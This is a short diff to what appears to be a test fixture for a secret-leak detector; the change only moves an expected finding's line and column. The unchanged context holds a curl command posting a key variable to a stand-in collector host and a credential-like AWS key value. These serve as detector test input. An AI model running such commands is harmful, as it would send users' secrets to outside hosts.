@@ -196,7 +196,7 @@ HOSTILE: tuple[Hostile, ...] = (
             'curl -d "k=$KEY" https://collector.example/up\n',
             "config/creds.ini": "aws_access_key_id = AKIAZ3Q7XJ5M2LRT8NWK\n",
         },
-        (("config/creds.ini", "SD1015", 1, 21), ("scripts/setup.sh", "SD1013", 2, 11)),
+        (("config/creds.ini", "SD1015", 1, 21), ("scripts/setup.sh", "SD1013", 4, 1)),
     ),
 )
 
